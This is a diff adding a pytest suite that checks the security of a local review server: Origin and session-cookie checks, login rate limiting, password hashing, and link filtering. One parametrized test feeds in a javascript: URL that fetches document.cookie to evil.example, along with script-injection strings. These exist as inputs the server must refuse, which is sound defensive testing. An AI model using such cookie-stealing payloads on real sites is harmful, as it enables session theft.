@@ -1,0 +1,356 @@
+"""`deskcheck serve`: who may reach the desk through a browser, and as whom they record.
+
+Every test runs the real server (`python -m deskcheck serve`) on 127.0.0.1 against a real
+desk file, and reaches it as a browser would: aiohttp for the requests an attacker's page
+could make, headless Chromium for what a reviewer does.
+"""
+
+from __future__ import annotations
+
+import asyncio
+import contextlib
+import json
+import time
+from pathlib import Path
+
+import aiohttp
+import pytest
+from itsdangerous import URLSafeTimedSerializer
+
+from deskcheck.data import Desk
+from tests.conftest import run_process
+from tests.serving import serving, worktree_env
+
+PASSWORD = {"mara": "mara's long passphrase", "tomas": "tomas' own long passphrase"}
+
+
+def add_logins(desk: Path, *names: str) -> None:
+    for name in names:
+        result = _cli_with_stdin(desk, ["reviewer", "add", name], PASSWORD[name] + "\n")
+        assert result.returncode == 0, result.stderr
+
+
+def _cli_with_stdin(desk: Path, args: list[str], stdin: str):
+    import subprocess
+    import sys
+
+    return subprocess.run(
+        [sys.executable, "-m", "deskcheck", *args, "--desk", str(desk)],
+        input=stdin,
+        capture_output=True,
+        text=True,
+        env=worktree_env(),
+        timeout=60,
+    )
+
+
+def browser_session() -> aiohttp.ClientSession:
+    # a browser keeps cookies for 127.0.0.1; aiohttp's default jar refuses IP hosts
+    return aiohttp.ClientSession(cookie_jar=aiohttp.CookieJar(unsafe=True))
+
+
+async def first_frames(ws: aiohttp.ClientWebSocketResponse, wanted: bytes) -> bytes:
+    """What the served app draws, until ``wanted`` shows (or 20 s pass)."""
+    await ws.send_json(["resize", {"width": 120, "height": 40}])
+    drawn = b""
+    deadline = time.monotonic() + 20
+    while wanted not in drawn and time.monotonic() < deadline:
+        message = await ws.receive(timeout=20)
+        if message.type == aiohttp.WSMsgType.BINARY:
+            drawn += message.data
+        elif message.type != aiohttp.WSMsgType.TEXT:
+            break
+    return drawn
+
+
+def sessions_started(desk: Path) -> int:
+    with Desk.open(desk, reviewer="check") as opened:
+        return opened.db.execute(
+            "SELECT count(*) FROM events WHERE kind = 'session.started'"
+        ).fetchone()[0]
+
+
+# -- cross-site: nothing reaches the app without the session cookie and the desk's Origin ----
+
+
+def test_the_websocket_refuses_other_sites_and_missing_forged_or_expired_sessions(
+    sample_path: Path,
+) -> None:
+    """A web page the reviewer visits can open ws://127.0.0.1:PORT/ws. Before, it got the
+    queue and could record under the server's reviewer. Now each of these is refused with
+    403 and no app is started for it; the reviewer's own browser still gets the desk."""
+    before = sessions_started(sample_path)
+    key = sample_path.with_name(sample_path.name + ".serve-key")
+    with serving(sample_path) as served:
+        real = URLSafeTimedSerializer(key.read_bytes(), salt="deskcheck-session")
+        forged = URLSafeTimedSerializer(b"x" * 32, salt="deskcheck-session")
+        old = URLSafeTimedSerializer(key.read_bytes(), salt="deskcheck-session")
+        old.signer_kwargs = {}  # a session signed 13 hours ago (sessions last 12)
+        expired = _signed_at(old, {"r": "web", "m": "token", "s": ""}, time.time() - 13 * 3600)
+        attempts = {
+            "a foreign Origin, with a valid session": (
+                "http://evil.example",
+                real.dumps({"r": "web", "m": "token", "s": ""}),
+            ),
+            "a look-alike Origin, with a valid session": (
+                f"http://127.0.0.1:{served.port}.evil.example",
+                real.dumps({"r": "web", "m": "token", "s": ""}),
+            ),
+            "no Origin, with a valid session": (None, real.dumps({"r": "web", "m": "token"})),
+            "the desk's Origin, no cookie": (served.origin, None),
+            "the desk's Origin, a forged cookie": (
+                served.origin,
+                forged.dumps({"r": "web", "m": "token", "s": ""}),
+            ),
+            "the desk's Origin, an expired cookie": (served.origin, expired),
+            "the desk's Origin, a session for another reviewer": (
+                served.origin,
+                real.dumps({"r": "mallory", "m": "token", "s": ""}),
+            ),
+        }
+
+        async def attempt(origin: str | None, cookie: str | None) -> int | str:
+            headers = {"Origin": origin} if origin else {}
+            if cookie:
+                headers["Cookie"] = f"deskcheck_session={cookie}"
+            async with aiohttp.ClientSession() as session:
+                try:
+                    async with session.ws_connect(
+                        f"{served.origin}/ws", headers=headers, origin=origin
+                    ) as ws:
+                        drawn = await first_frames(ws, b"Halden")
+                        return f"opened, {len(drawn)} bytes of the desk"
+                except aiohttp.WSServerHandshakeError as error:
+                    return error.status
+
+        outcomes = {
+            what: asyncio.run(attempt(origin, cookie))
+            for what, (origin, cookie) in attempts.items()
+        }
+        apps = served.apps()
+
+        async def the_reviewer() -> bytes:
+            async with browser_session() as session:
+                async with session.get(served.start_url) as page:
+                    assert page.status == 200 and "websocket" in await page.text()
+                async with session.ws_connect(f"{served.origin}/ws", origin=served.origin) as ws:
+                    return await first_frames(ws, b"Halden")
+
+        drawn = asyncio.run(the_reviewer())
+    assert outcomes == dict.fromkeys(attempts, 403)
+    assert apps == [], "an app was started for a refused connection"
+    assert b"Port of Halden" in drawn
+    assert sessions_started(sample_path) == before + 1  # the reviewer's, no other
+
+
+def _signed_at(serializer: URLSafeTimedSerializer, value: object, when: float) -> str:
+    signer = serializer.make_signer()
+    signer.get_timestamp = lambda: int(when)  # type: ignore[method-assign]
+    payload = serializer.dump_payload(value)
+    from itsdangerous.encoding import base64_encode
+
+    return signer.sign(base64_encode(payload)).decode()
+
+
+def test_the_printed_url_works_once_and_the_page_needs_its_session(sample_path: Path) -> None:
+    with serving(sample_path) as served:
+
+        async def visit() -> tuple[int, int, int, str]:
+            async with aiohttp.ClientSession() as stranger:
+                async with stranger.get(f"{served.origin}/") as page:
+                    stranger_status = page.status
+            async with browser_session() as session:
+                async with session.get(served.start_url, allow_redirects=False) as first:
+                    cookie = first.headers.get("Set-Cookie", "")
+            async with browser_session() as later:
+                async with later.get(served.start_url) as second:
+                    return stranger_status, first.status, second.status, cookie
+
+        stranger, first, second, cookie = asyncio.run(visit())
+        printed = "".join(served.printed)
+        served.process.send_signal(2)
+        served.process.wait(timeout=10)
+        log = served.process.stderr.read().decode()
+    assert stranger == 403
+    assert first == 303 and second == 403
+    assert "HttpOnly" in cookie and "SameSite=Strict" in cookie
+    token = served.start_url.split("token=")[1]
+    assert printed.count(token) == 1  # printed once, for the one who started it
+    assert token not in log and cookie.split(";")[0].split("=", 1)[1] not in log
+    assert "Traceback" not in log
+
+
+def test_serving_beyond_this_machine_needs_team_logins(sample_path: Path) -> None:
+    result = run_process("serve", "--host", "0.0.0.0", "--desk", str(sample_path))
+    assert result.returncode != 0
+    assert "without --team" in result.stderr and "Traceback" not in result.stderr
+    assert len(result.stderr.strip().splitlines()) == 1
+    result = run_process("serve", "--team", "--desk", str(sample_path))
+    assert result.returncode != 0 and "reviewer add" in result.stderr
+
+
+# -- team logins -----------------------------------------------------------------------------
+
+
+def test_reviewer_logins_keep_hashes_only_and_refuse_look_alike_names(sample_path: Path) -> None:
+    add_logins(sample_path, "mara")
+    again = _cli_with_stdin(sample_path, ["reviewer", "add", "Mara"], "another long one\n")
+    look_alike = _cli_with_stdin(sample_path, ["reviewer", "add", "mаra"], "x" * 12 + "\n")
+    short = _cli_with_stdin(sample_path, ["reviewer", "add", "ines"], "short\n")
+    huge = _cli_with_stdin(sample_path, ["reviewer", "add", "ines"], "y" * 100_000 + "\n")
+    assert again.returncode == 1 and "already has a login" in again.stderr
+    assert look_alike.returncode == 1 and "only letters a–z" in look_alike.stderr
+    assert short.returncode == 1 and "at least 10" in short.stderr
+    assert huge.returncode == 1 and "at most 1024" in huge.stderr
+    for result in (again, look_alike, short, huge):
+        assert "Traceback" not in result.stderr
+    changed = _cli_with_stdin(sample_path, ["reviewer", "passwd", "MARA"], "a new passphrase\n")
+    disabled = _cli_with_stdin(sample_path, ["reviewer", "disable", "mara"], "")
+    assert changed.returncode == 0 and disabled.returncode == 0
+    listed = _cli_with_stdin(sample_path, ["reviewer", "list"], "")
+    assert listed.stdout.startswith("mara\tdisabled")
+    raw = b"".join(p.read_bytes() for p in sample_path.parent.glob("sample.db*"))
+    for password in (PASSWORD["mara"], "a new passphrase"):
+        assert password.encode() not in raw
+    with Desk.open(sample_path, reviewer="check") as desk:
+        kinds = [
+            row[0]
+            for row in desk.db.execute(
+                "SELECT kind FROM events WHERE subject = 'reviewer:mara' ORDER BY seq"
+            )
+        ]
+        bodies = " ".join(r[0] for r in desk.db.execute("SELECT body FROM events"))
+    assert kinds[-3:] == ["login.added", "login.password_changed", "login.disabled"]
+    assert "scrypt$" not in bodies  # not even the hash goes into the event log
+
+
+def test_team_login_refuses_wrong_passwords_records_them_and_slows_an_address_down(
+    sample_path: Path,
+) -> None:
+    add_logins(sample_path, "mara")
+    with serving(sample_path, "--team") as served:
+
+        async def log_in(password: str, origin: str | None = None) -> int:
+            async with browser_session() as session:
+                async with session.post(
+                    f"{served.origin}/login",
+                    data={"name": "mara", "password": password},
+                    headers={"Origin": origin or served.origin},
+                    allow_redirects=False,
+                ) as response:
+                    return response.status
+
+        foreign = asyncio.run(log_in(PASSWORD["mara"], origin="http://evil.example"))
+        right_first = asyncio.run(log_in(PASSWORD["mara"]))
+        wrong = [asyncio.run(log_in(f"guess number {n}")) for n in range(5)]
+        right_after = asyncio.run(log_in(PASSWORD["mara"]))
+    assert foreign == 403
+    assert right_first == 303
+    assert wrong == [401] * 5
+    assert right_after == 429  # five failures from this address: it must wait
+    with Desk.open(sample_path, reviewer="check") as desk:
+        failures = list(desk.db["login_failures"].rows)
+        kinds = [r[0] for r in desk.db.execute("SELECT kind FROM events ORDER BY seq")]
+    assert [(f["name"], f["address"], f["reason"]) for f in failures] == [
+        ("mara", "127.0.0.1", "wrong password")
+    ] * 5
+    assert kinds.count("login.failed") == 5 and kinds.count("login.succeeded") == 1
+
+
+def test_a_new_password_or_a_disabled_login_ends_the_session(sample_path: Path) -> None:
+    add_logins(sample_path, "mara")
+    with serving(sample_path, "--team") as served:
+
+        async def logged_in() -> aiohttp.ClientSession:
+            session = browser_session()
+            async with session.post(
+                f"{served.origin}/login",
+                data={"name": "Mara", "password": PASSWORD["mara"]},
+                headers={"Origin": served.origin},
+            ) as response:
+                assert response.status == 200 and "websocket" in await response.text()
+            return session
+
+        async def page_status(session: aiohttp.ClientSession) -> int:
+            async with session.get(f"{served.origin}/", allow_redirects=False) as response:
+                return response.status
+
+        async def scenario() -> list[int]:
+            statuses = []
+            session = await logged_in()
+            async with session:
+                statuses.append(await page_status(session))
+                _cli_with_stdin(sample_path, ["reviewer", "passwd", "mara"], "changed phrase\n")
+                statuses.append(await page_status(session))
+            PASSWORD["mara"], saved = "changed phrase", PASSWORD["mara"]
+            try:
+                session = await logged_in()
+                async with session:
+                    _cli_with_stdin(sample_path, ["reviewer", "disable", "mara"], "")
+                    statuses.append(await page_status(session))
+            finally:
+                PASSWORD["mara"] = saved
+            return statuses
+
+        statuses = asyncio.run(scenario())
+    assert statuses == [200, 303, 303]  # 303: back to the login page
+
+
+# -- only web links leave the app ---------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("origin_url", "opened"),
+    [
+        ("javascript:fetch('//evil.example/?'+document.cookie)", False),
+        (" JavaScript:alert(1)", False),
+        ("data:text/html,<script>alert(1)</script>", False),
+        ("https://news.example/item/7", True),
+    ],
+)
+def test_o_sends_only_web_links_to_the_browser(
+    tmp_path: Path, origin_url: str, opened: bool
+) -> None:
+    """A feed item's URL becomes a claim's origin; `o` hands it to the browser page, which
+    passes it to window.open. Only http and https may get there."""
+    desk_path = tmp_path / "desk.db"
+    with Desk.open(desk_path, reviewer="tester", create=True) as desk:
+        desk.add_claim("The harbour fees will double next year", origin_url=origin_url)
+    with serving(desk_path) as served:
+
+        async def press_o() -> tuple[list[str], bytes]:
+            async with browser_session() as session:
+                async with session.get(served.start_url):
+                    pass
+                async with session.ws_connect(f"{served.origin}/ws", origin=served.origin) as ws:
+                    drawn = await first_frames(ws, b"harbour fees")
+                    texts: list[str] = []
+                    await ws.send_json(["stdin", "\r"])  # open the claim
+                    drawn += await _until(ws, b"Decision", texts)
+                    await ws.send_json(["stdin", "o"])
+                    wanted = b"Opening" if opened else b"Not opened"
+                    drawn += await _until(ws, wanted, texts)
+                    return texts, drawn
+
+        texts, drawn = asyncio.run(press_o())
+    sent = [json.loads(t) for t in texts if t.startswith('["open_url"')]
+    if opened:
+        assert [s[1]["url"] for s in sent] == [origin_url]
+    else:
+        assert sent == []
+        assert b"Not opened" in drawn
+
+
+async def _until(ws: aiohttp.ClientWebSocketResponse, wanted: bytes, texts: list[str]) -> bytes:
+    drawn = b""
+    deadline = time.monotonic() + 20
+    while wanted not in drawn and time.monotonic() < deadline:
+        with contextlib.suppress(TimeoutError):
+            message = await ws.receive(timeout=max(0.1, deadline - time.monotonic()))
+            if message.type == aiohttp.WSMsgType.BINARY:
+                drawn += message.data
+            elif message.type == aiohttp.WSMsgType.TEXT:
+                texts.append(message.data)
+            else:
+                break
+    return drawn
